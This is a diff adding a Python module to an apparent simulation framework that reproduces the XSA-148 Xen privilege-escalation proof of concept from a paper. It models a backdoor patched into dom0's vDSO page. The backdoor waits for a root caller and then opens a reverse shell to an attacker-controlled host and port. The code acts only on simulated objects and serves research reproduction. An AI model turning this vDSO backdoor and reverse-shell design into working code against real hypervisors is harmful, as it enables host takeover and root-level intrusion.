@@ -1,0 +1,62 @@
+"""The guest's vDSO page and the XSA-148 backdoor payload.
+
+The vDSO (virtual dynamic shared object) is a kernel-provided code
+page mapped into every user process.  The XSA-148-priv PoC scans
+physical memory for dom0's vDSO page and patches a backdoor into it;
+the next time a *root* process calls through the vDSO, the backdoor
+opens a reverse shell to the attacker (paper §VI-A).
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Optional
+
+from repro.xen.constants import VDSO_MAGIC
+from repro.xen.payload import Payload
+
+if TYPE_CHECKING:  # pragma: no cover - typing only
+    from repro.guest.process import Process
+    from repro.net import Network
+    from repro.xen.domain import Domain
+    from repro.xen.hypervisor import Xen
+
+#: Word offset of the vDSO magic fingerprint within the page.
+VDSO_MAGIC_WORD = 0
+#: Word offset of the (patchable) function entry point.
+VDSO_FUNCTION_WORD = 1
+#: Marker for the legitimate function body.
+VDSO_LEGIT_CODE = 0x6765_7474_6F64_6179  # "gettoday"
+
+
+def stamp_vdso(machine, mfn: int) -> None:
+    """Write the fingerprint + legitimate code into a fresh vDSO page."""
+    machine.write_word(mfn, VDSO_MAGIC_WORD, VDSO_MAGIC)
+    machine.write_word(mfn, VDSO_FUNCTION_WORD, VDSO_LEGIT_CODE)
+
+
+class VdsoBackdoorPayload(Payload):
+    """Backdoor installed over the vDSO function entry.
+
+    Executes in the context of the user process that called the vDSO;
+    if that process is root, connect back to the attacker and hand
+    them a shell with the caller's credentials.
+    """
+
+    def __init__(self, network: "Network", attacker_host: str, attacker_port: int):
+        super().__init__("vdso-reverse-shell")
+        self.network = network
+        self.attacker_host = attacker_host
+        self.attacker_port = attacker_port
+
+    def trigger(self, xen: "Xen", domain: "Domain", process: "Process") -> None:
+        if not process.creds.is_root:
+            return  # lie in wait for a root caller
+        from repro.net import Shell
+
+        shell = Shell(domain, uid=process.creds.uid)
+        self.network.connect(
+            from_host=domain.hostname,
+            to_host=self.attacker_host,
+            port=self.attacker_port,
+            shell=shell,
+        )
